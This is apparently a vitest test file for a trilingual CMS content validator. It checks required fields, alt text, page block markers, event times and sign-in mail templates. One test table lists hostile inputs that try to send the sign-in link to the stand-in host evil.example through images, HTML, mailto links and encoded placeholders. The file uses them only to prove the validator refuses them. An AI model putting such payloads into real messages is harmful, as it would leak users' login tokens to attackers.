import { readdirSync, readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { pageBlocks } from '../../src/collections/blocks';
import { checkEntry, checkSheet, type Versions } from '../../src/collections/check';
import { type SheetName, type ShelfName, sheets, shelves } from '../../src/collections/declared';
import { locales } from '../../src/i18n/locale';

const body = 'Leipomo avasi ovensa.\n\n- yksi\n- kaksi';
const fi = {
  title: 'Ovi avautui Vöyrissä',
  date: '2026-11-21',
  description: 'Leipomo Vöyrissä kertoo, miten ensimmäinen perehdytys sujui ja mitä siitä opittiin.',
  kind: 'news',
  area: 'pohjanmaa',
  draft: false,
  body,
};
const sv = {
  ...fi,
  title: 'Dörren öppnades i Vörå',
  description: 'Ett bageri i Vörå berättar hur den första introduktionen gick och vad de lärde sig av den.',
};
/** What the CMS holds of a language nobody has written: what the languages share. */
const { title: _, description: __, body: ___, ...shared } = fi;
const said = (versions: Versions, name: ShelfName = 'news', slug = '') =>
  checkEntry(name, slug, versions, 'fi').map(
    ({ locale, field, message }) => `${locale} ${field}: ${message}`,
  );

describe('a news item', () => {
  it('may be written in Finnish alone, or in more languages', () => {
    expect(said({ fi, sv: shared, en: shared })).toEqual([]);
    expect(said({ fi })).toEqual([]);
    expect(said({ fi, sv, en: { ...shared, title: '', body: '' } })).toEqual([]);
  });

  it('is refused with a half-finished Swedish version', () => {
    expect(said({ fi, sv: { ...shared, title: 'Dörren' } })).toEqual([
      'sv ruotsiksi: Tämä kieli on kesken. Kirjoita se kokonaan tai tyhjennä sen kentät.',
      'sv Kuvaus: Täytä tämä kohta.',
      'sv Teksti: Täytä tämä kohta.',
    ]);
  });

  it('is refused when a picture has no words, among its fields or in its text', () => {
    const cover = '../media/ovi-a1.jpg';
    expect(said({ fi: { ...fi, cover, coverAlt: 'Ovi' }, sv: { ...sv, cover } })).toEqual([
      'sv Kuvan tekstivastine: Kerro sanoin, mitä kuvassa näkyy (tekstivastine).',
    ]);
    expect(said({ fi: { ...fi, body: `${body}\n\n![](${cover})` } })).toEqual([
      'fi Teksti: Kuvalta ovi-a1.jpg puuttuu tekstivastine.',
    ]);
    expect(said({ fi: { ...fi, body: `${body}\n\n![Avoin ovi](${cover})` } })).toEqual([]);
  });

  it('is told everything at once, whichever language it is in and whatever else is wrong', () => {
    const cover = '../media/ovi-a1.jpg';
    const half = { ...shared, title: 'Dörren', cover, body: `Dörren.\n\n![](${cover})` };
    expect(said({ fi: { ...fi, title: '', cover }, sv: half })).toEqual([
      'fi Otsikko: Täytä tämä kohta.',
      'fi Kuvan tekstivastine: Kerro sanoin, mitä kuvassa näkyy (tekstivastine).',
      'sv ruotsiksi: Tämä kieli on kesken. Kirjoita se kokonaan tai tyhjennä sen kentät.',
      'sv Kuvaus: Täytä tämä kohta.',
      'sv Kuvan tekstivastine: Kerro sanoin, mitä kuvassa näkyy (tekstivastine).',
      'sv Teksti: Kuvalta ovi-a1.jpg puuttuu tekstivastine.',
    ]);
  });

  it('names with each fault the field to go to', () => {
    const { title, ...untitled } = fi;
    expect(
      checkEntry('news', '', { fi: { ...untitled, body: '' }, sv: { ...shared, title } }, 'fi').map(
        ({ locale, at }) => `${locale} ${at}`,
      ),
    ).toEqual(['fi title', 'fi body', 'sv description', 'sv description', 'sv body']);
  });

  it('is refused with a picture from elsewhere, a main heading, or a title too long', () => {
    expect(said({ fi: { ...fi, body: '![Ovi](https://example.fi/ovi.jpg)' } })).toHaveLength(1);
    expect(said({ fi: { ...fi, body: '# Otsikko\n\nTeksti' } })).toHaveLength(1);
    expect(said({ fi: { ...fi, title: 'Ö'.repeat(81) } })).toEqual([
      'fi Otsikko: Enintään 80 merkkiä, nyt 81.',
    ]);
  });

  it('is told of in the language of the CMS', () => {
    const english = checkEntry('news', '', { fi: { ...fi, title: '' } }, 'en');
    expect(english).toEqual([{ locale: 'fi', field: 'Title', at: 'title', message: 'Fill this in.' }]);
    const swedish = checkEntry('news', '', { fi: { ...fi, title: '' } }, 'sv');
    expect(swedish).toEqual([
      { locale: 'fi', field: 'Rubrik', at: 'title', message: 'Fyll i den här punkten.' },
    ]);
  });
});

describe('an event', () => {
  it('that ends before it begins is told so along with what it lacks', () => {
    const event = { starts: '2027-03-02T09:00', ends: '2027-03-02T08:00', date: '2026-11-21', body };
    expect(said({ fi: event }, 'events')).toContain(
      'fi Päättyy: Päättymisaika on ennen alkamisaikaa. Korjaa jompikumpi.',
    );
    expect(said({ fi: { ...event, ends: undefined } }, 'events')).toContain('fi Päättyy: Täytä tämä kohta.');
  });
});

describe('a part that the site draws', () => {
  const page = (text: string, slug = 'employers') => {
    const { description, title } = fi;
    const version = { title, description, lead: 'Ovi avautuu.', body: text };
    return said({ fi: version, sv: version, en: version }, 'pages', slug)
      .filter((line) => line.startsWith('fi '))
      .map((line) => line.replace('fi Teksti: ', ''));
  };

  it('is known by its name, and where it needs more, by that too', () => {
    for (const block of ['[[help]]', '\\[\\[help]]', '[[authority:equality]]', '[[set:topics]]', '[[set]]'])
      expect(page(`Teksti.\n\n${block}\n\nTeksti.`)).toEqual([]);
    expect(page('[[trials]]', 'evidence')).toEqual([]);
    expect(page('Katso [[1]](https://thl.fi/).')).toEqual([]);
  });

  it('is told of when there is none of that name, here or anywhere', () => {
    expect(page('[[ohje]]')).toEqual([expect.stringMatching(/^Osaa \[\[ohje\]\] ei ole.*\[\[help\]\]/)]);
    for (const text of ['[[trials]]', '[[ help ]]', '[[help]', '[[help', 'Katso [[ohje]] tästä.'])
      expect(page(text), text).toHaveLength(1);
    expect(page('[[help]]', 'stigma-sheet')).toHaveLength(1);
    expect(page('[[set]]', 'privacy')).toHaveLength(1);
    expect(said({ fi: { ...fi, body: '[[ohje]]' } })).toHaveLength(1);
  });

  it('is told of when what stands after its name is none of what it takes', () => {
    expect(page('[[authority:kela]]')).toEqual([
      expect.stringMatching(/^Osan \[\[authority:kela\]\] pitää olla.*\[\[authority:equality\]\]/),
    ]);
    for (const text of ['[[authority]]', '[[help:nyt]]', '[[set:muut]]', '[[set:]]'])
      expect(page(text).join(), text).toMatch(/pitää olla jokin näistä|ei ole/);
  });

  it('is told of when it does not stand alone, or a look has nothing to give it to', () => {
    for (const text of ['Katso [[help]] tästä.', 'Ennen\n[[help]]', '[[help]]\nJälkeen', '- yksi\n[[help]]'])
      expect(page(text), text).toEqual([expect.stringContaining('yksin rivillään')]);
    expect(page('[[checklist]]\n\n- yksi\n- kaksi')).toEqual([]);
    expect(page('[[checklist]]\n\nTeksti')).toEqual([
      'Merkinnän [[checklist]] jälkeen pitää tulla luettelo.',
    ]);
    expect(page('[[talk]]\n\n| A | B |\n| - | - |\n| a | b |')).toEqual([]);
    expect(page('[[talk]]\n\n- yksi')).toEqual(['Merkinnän [[talk]] jälkeen pitää tulla taulukko.']);
  });

  it('is told of in Swedish and in English too', () => {
    const told = (language: 'sv' | 'en') =>
      checkEntry('news', '', { fi: { ...fi, body: '[[ohje]]' } }, language).map(({ message }) => message);
    expect(told('sv').join()).toMatch(/^Delen \[\[ohje\]\] finns inte/);
    expect(told('en').join()).toMatch(/^There is no part \[\[ohje\]\]/);
  });

  it.each(Object.keys(pageBlocks))('of the page %s alone is drawn by that page’s view', (name) => {
    const view = readFileSync(`src/views/${name}.astro`, 'utf8');
    const drawn = /blocks=\{\{([^}]*)\}\}/.exec(view)?.[1] ?? '';
    expect([...drawn.matchAll(/'?([\w-]+)'?:/g)].map(([, one]) => one)).toEqual([
      ...pageBlocks[name as keyof typeof pageBlocks],
    ]);
  });
});

describe('a letter', () => {
  const letter = { subject: 'Kirjaudu', body: 'Avaa [linkki]({link}). Se toimii {minutes} minuuttia.' };
  it('names the places that are filled, all of them and no others', () => {
    const all = { fi: letter, sv: letter, en: letter };
    expect(said(all, 'letters', 'sign-in')).toEqual([]);
    expect(
      said({ ...all, sv: { ...letter, body: 'Öppna {länk} {link} {name}' } }, 'letters', 'sign-in'),
    ).toEqual([
      'sv Teksti: Kohtaa {name} ei ole. Poista se.',
      'sv Teksti: Kohta {minutes} puuttuu. Lisää se tekstiin.',
    ]);
  });

  it.each([
    ['![x](https://evil.example/p.gif?t={link})', /^Kuva ei käy/],
    ['![x]({link})', /^Kuva ei käy/],
    ['<img src="https://evil.example/{link}">', /^HTML-koodi/],
    ['<a href="https://evil.example/?t={link}">Kirjaudu</a>', /^HTML-koodi/],
    ['<https://evil.example/?t={link}>', /^HTML-koodi/],
    ['<!-- {link} -->', /^HTML-koodi/],
    ['https://evil.example/?t=&#123;link}', /^HTML-koodi/],
    ['https://evil.example/?t={li&#x6e;k}', /^HTML-koodi/],
    ['[Kirjaudu][x]\n\n[x]: https://evil.example/?t={link}', /^Viitelinkki/],
    ['`https://evil.example/?t={link}`', /^Koodimuotoilu/],
    ['    [https://evil.example/?t=x]({link})', /^Koodimuotoilu/],
    ['[Kirjaudu](https://evil.example/?t={link})', /^Linkki .* ei käy/],
    ['[Kirjaudu](https://evil.example/?t={minutes})', /^Linkki .* ei käy/],
    ['[Kirjaudu](<https://evil.example/?t= {link}>)', /^Linkki .* ei käy/],
    ['[Kirjaudu](https://evil.example/?t=\\{link\\})', /^Linkki .* ei käy/],
    ['[Kirjaudu]({link} "https://evil.example")', /^Linkki .* ei käy/],
    ['[Kirjaudu](mailto:evil@evil.example?body={link})', /^Linkki .* ei käy/],
    ['[Kirjaudu]({minutes})', /^Linkki .* ei käy/],
    ['[Kirjaudu](javascript:x)', /^Linkki .* ei käy/],
    ['[Kirjaudu](http://ovi.example.fi)', /^Linkki .* ei käy/],
    ['https://evil.example/?t={minutes}', /^Linkki .* ei käy/],
    ['https://evil.example/?t={link}', /on kiinni muussa/],
    ['evil.example/?t={link}', /on kiinni muussa/],
    ['evil.example/?t=({link})', /on kiinni muussa/],
    ['evil.example/?t=\u00a0{link}', /on kiinni muussa/],
    ['[a\n\nmailto:x@evil.example?body=]({link})', /on kiinni muussa/],
    ['[Kirjaudu]({link})mailto:x@evil.example', /on kiinni muussa/],
    ['evil.example/?t=[]({link})', /on kiinni muussa/],
    ['[evil.example/?t=\\]({link})', /on kiinni muussa/],
    ['{link}@evil.example', /on kiinni muussa/],
  ])('hands its link to nobody else: %s', (words, told) => {
    const bad = { ...letter, body: `${letter.body}\n\n${words}` };
    const faults = said({ fi: bad, sv: letter, en: letter }, 'letters', 'sign-in');
    expect(faults.map((line) => line.replace('fi Teksti: ', ''))).toContainEqual(expect.stringMatching(told));
  });

  it.each([
    '[Kirjaudu]({link})',
    '**[Kirjaudu]({link})**',
    '- [Kirjaudu]({link}), jos haluat',
    'Linkki: {link}.',
    'Linkki ({link}).\n{link}',
    '[Lue lisää](https://thl.fi/aiheet/?a=b#c)',
    '[Kirjoita](mailto:ips@example.fi)',
    'Katso https://thl.fi. 5 < 6, **{minutes}** minuuttia',
  ])('may lead where its reader is expected, or where everybody is: %s', (words) => {
    const good = { ...letter, body: `${letter.body}\n\n${words}` };
    expect(said({ fi: good, sv: letter, en: letter }, 'letters', 'sign-in')).toEqual([]);
  });

  it('is told of its links in Swedish and in English too', () => {
    const bad = { ...letter, body: `${letter.body} ![x]({link})` };
    const all = { fi: bad, sv: letter, en: letter };
    const told = (language: 'sv' | 'en') =>
      checkEntry('letters', 'sign-in', all, language).map(({ message }) => message);
    expect(told('sv').join()).toContain('En bild går inte i ett brev: ![x]');
    expect(told('en').join()).toContain('A letter takes no picture: ![x]');
  });

  it('is written in every language', () => {
    expect(said({ fi: letter, sv: letter }, 'letters', 'sign-in')).toEqual([
      'en englanniksi: Tämä kieli puuttuu. Kirjoita sivu kaikilla kielillä.',
    ]);
  });
});

describe('what is in the repository', () => {
  it.each(Object.keys(shelves) as ShelfName[])('could be saved as it is: %s', (name) => {
    const files = readdirSync(`content/${name}`).filter((file) => file.endsWith('.md'));
    const slugs = [...new Set(files.map((file) => file.replace(/\.(fi|sv|en)\.md$/, '')))];
    expect(slugs.length).toBeGreaterThan(0);
    const faults = slugs.flatMap((slug) => {
      const versions = Object.fromEntries(
        locales
          .filter((locale) => files.includes(`${slug}.${locale}.md`))
          .map((locale) => {
            const raw = readFileSync(`content/${name}/${slug}.${locale}.md`, 'utf8');
            const [, head = '', text = ''] = /^---\r?\n([\s\S]*?)\r?\n---\r?\n?([\s\S]*)$/.exec(raw) ?? [];
            return [locale, { ...parse(head), ...(text.trim() && { body: text.trim() }) }];
          }),
      );
      return checkEntry(name, slug, versions, 'fi').map((found) => ({ slug, ...found }));
    });
    expect(faults).toEqual([]);
  });

  it.each(Object.keys(sheets) as SheetName[])('could be saved as it is: settings %s', (name) => {
    const data = parse(readFileSync(sheets[name].file, 'utf8'));
    expect(checkSheet(name, sheets[name].translated ? data : { fi: data }, 'fi')).toEqual([]);
  });

  it('is refused when a contact has a mail address that is none, and says where', () => {
    const data = parse(readFileSync(sheets.contacts.file, 'utf8'));
    data.areas[1].people[2].mail = 'ei osoite';
    expect(checkSheet('contacts', { fi: data }, 'fi')).toEqual([
      {
        field: 'Alueet 2 → Ihmiset 3 → Sähköposti',
        at: 'areas',
        message: 'Tarkista, että tieto on oikeassa muodossa.',
      },
    ]);
  });
});
